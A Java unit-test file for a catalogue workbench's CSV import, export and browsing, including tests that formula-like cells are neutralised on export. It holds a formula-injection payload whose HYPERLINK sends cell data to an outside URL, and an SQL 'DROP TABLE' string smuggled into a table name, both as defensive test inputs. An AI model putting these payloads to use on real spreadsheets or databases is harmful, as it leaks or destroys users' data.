package in.workbench.analytics.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.opencsv.CSVReader;
import in.workbench.analytics.WorkbenchException;
import in.workbench.analytics.browse.TableBrowser;
import in.workbench.analytics.browse.TableQuery;
import in.workbench.analytics.imports.CsvImporter;
import in.workbench.analytics.imports.ImportOptions;
import in.workbench.analytics.task.ProgressMonitor;
import in.workbench.analytics.workspace.DataTable;
import in.workbench.analytics.workspace.Workspace;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class RoundTripTest {

    static final String CATALOG = "product_id,title,category,subcategory,brand,color,material,price_inr,weight_g,length_cm,"
            + "width_cm,height_cm,fragile,liquid,image_path\n"
            + "P1,\"लाल बनारसी साड़ी, \"\"असली\"\" रेशम\",Clothing,Sarees,Weavers,red,silk,2499.00,450,30.00,25.00,3.50,false,false,images/p1.png\n"
            + "P2,\"Steel Tiffin\nwith two lines\",Home & Kitchen,Tiffins,,,steel,349.50,800,,,,true,false,\n"
            + "P3,கைத்தறி பருத்தி புடவை,Clothing,Sarees,,blue,cotton,1199.00,,,,,,,\n"
            + "P4,Running Shoes,Footwear,Running Shoes,Stride,black,,1999.00,700,32.00,20.00,12.00,false,false,\n";

    @TempDir
    Path dir;
    Workspace ws;

    @BeforeEach
    void load() throws Exception {
        ws = Workspace.open(dir.resolve("ws"));
        Path f = dir.resolve("catalog.csv");
        Files.writeString(f, CATALOG, StandardCharsets.UTF_8);
        new CsvImporter(ws).importFile(f, DataTable.PRODUCTS, ImportOptions.defaults(), ProgressMonitor.NONE);
    }

    @AfterEach
    void close() {
        ws.close();
    }

    static List<String[]> read(Path csv) throws Exception {
        try (Reader r = Files.newBufferedReader(csv, StandardCharsets.UTF_8); CSVReader reader = new CSVReader(r)) {
            return reader.readAll();
        }
    }

    @Test
    void importThenExportGivesBackEveryValueUnchanged() throws Exception {
        Path out = dir.resolve("out/products.csv");
        ExportResult result = new CsvExporter(ws).export(TableQuery.all("products").sortedBy("product_id", true), out, ProgressMonitor.NONE);
        assertEquals(4, result.rows());
        List<String[]> original = read(dir.resolve("catalog.csv"));
        List<String[]> exported = read(out);
        assertEquals(original.size(), exported.size());
        for (int i = 0; i < original.size(); i++) {
            assertEquals(Arrays.asList(original.get(i)), Arrays.asList(exported.get(i)), "row " + i);
        }
    }

    @Test
    void exportsExactlyTheFilteredRowsWithProvenance() throws Exception {
        TableQuery q = TableQuery.all("products").withFilter("category", "clothing").withFilter("price_inr", ">=1500")
                .sortedBy("price_inr", false);
        TableBrowser browser = new TableBrowser(ws);
        assertEquals(1, browser.count(q));
        Path out = dir.resolve("clothing.csv");
        new CsvExporter(ws).export(q, out, ProgressMonitor.NONE);
        List<String[]> rows = read(out);
        assertEquals(2, rows.size());
        assertEquals("P1", rows.get(1)[0]);
        JsonNode provenance = new ObjectMapper().readTree(CsvExporter.provenanceFileOf(out).toFile());
        assertEquals("products", provenance.get("table").asText());
        assertEquals(1, provenance.get("rows").asInt());
        assertEquals(">=1500", provenance.get("filters").get("price_inr").asText());
        String sha = provenance.get("sources").get(0).get("sha256").asText();
        assertEquals(64, sha.length());
        assertTrue(provenance.get("sources").get(0).get("file").asText().endsWith("catalog.csv"));
    }

    @Test
    void textASpreadsheetWouldRunAsAFormulaIsWrittenAsTextAndRawWritesItAsStored() throws Exception {
        Path f = dir.resolve("crafted.csv");
        Files.writeString(f, "product_id,title,category,subcategory,brand,color,material,price_inr,weight_g,length_cm,"
                + "width_cm,height_cm,fragile,liquid,image_path\n"
                + "P9,\"=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"offer\"\")\",Clothing,Sarees,@brand,-red,+91 98765 43210,"
                + "10.00,5,,,,false,false,\n", StandardCharsets.UTF_8);
        new CsvImporter(ws).importFile(f, DataTable.PRODUCTS, ImportOptions.defaults(), ProgressMonitor.NONE);
        TableQuery q = TableQuery.all("products").withFilter("product_id", "=P9");

        Path out = dir.resolve("safe.csv");
        new CsvExporter(ws).export(q, out, ProgressMonitor.NONE);
        String[] row = read(out).get(1);
        assertEquals("'=HYPERLINK(\"http://example.com/?\"&A1,\"offer\")", row[1]);
        assertEquals("'@brand", row[4]);
        assertEquals("'-red", row[5]);
        assertEquals("'+91 98765 43210", row[6]);
        assertEquals("10.00", row[7], "numbers are never touched");
        JsonNode provenance = new ObjectMapper().readTree(CsvExporter.provenanceFileOf(out).toFile());
        assertEquals(4, provenance.get("cells_with_apostrophe_added").asInt());

        Path raw = dir.resolve("raw.csv");
        new CsvExporter(ws).raw().export(q, raw, ProgressMonitor.NONE);
        String[] stored = read(raw).get(1);
        assertEquals("=HYPERLINK(\"http://example.com/?\"&A1,\"offer\")", stored[1]);
        assertEquals("-red", stored[5]);
        assertEquals(0, new ObjectMapper().readTree(CsvExporter.provenanceFileOf(raw).toFile()).get("cells_with_apostrophe_added").asInt());
    }

    @Test
    void tellsFormulasFromNumbersAndPlaceholders() {
        for (String formula : List.of("=1+1", "@SUM(A1)", "+A1", "-A1", "-2+3", "\t=1", "\r=1", "+91 98765 43210")) {
            assertTrue(CsvExporter.looksLikeAFormula(formula), formula);
        }
        for (String text : List.of("", "-", "+", "-12", "+3.50", "12-3", "saree", "a=b")) {
            assertTrue(!CsvExporter.looksLikeAFormula(text), text);
        }
    }

    @Test
    void browsesPagesSortsSearchesAndFilters() {
        TableBrowser browser = new TableBrowser(ws);
        assertEquals(List.of("products", "addresses", "shipments", "package_types", "address_labels"), browser.tables().subList(0, 5));
        TableQuery byPrice = TableQuery.all("products").sortedBy("price_inr", true);
        List<List<Object>> page = browser.page(byPrice, 1, 2);
        assertEquals(List.of("P3", "P4"), page.stream().map(r -> r.get(0).toString()).toList());
        assertEquals(List.of("P2", "P3", "P4", "P1"), browser.page(byPrice, 0, 10).stream().map(r -> r.get(0).toString()).toList());
        assertEquals(1, browser.count(TableQuery.all("products").withSearch("tiffin")));
        assertEquals(2, browser.count(TableQuery.all("products").withFilter("subcategory", "=Sarees")));
        assertEquals(2, browser.count(TableQuery.all("products").withFilter("weight_g", "400..750")));
        assertEquals(1, browser.count(TableQuery.all("products").withFilter("fragile", "yes")));
        assertEquals(0, browser.count(TableQuery.all("products").withSearch("100%_")), "LIKE wildcards are taken literally");
    }

    @Test
    void refusesUnknownTablesColumnsAndBadFilterValuesWithASentence() {
        TableBrowser browser = new TableBrowser(ws);
        assertThrows(WorkbenchException.class, () -> browser.count(TableQuery.all("products; DROP TABLE products")));
        WorkbenchException e = assertThrows(WorkbenchException.class,
                () -> browser.count(new TableQuery("products", Map.of("colour", "red"), "", null, true)));
        assertTrue(e.getMessage().contains("has no column colour"), e.getMessage());
        e = assertThrows(WorkbenchException.class, () -> browser.count(TableQuery.all("products").withFilter("price_inr", ">=cheap")));
        assertTrue(e.getMessage().contains("price_inr"), e.getMessage());
    }
}
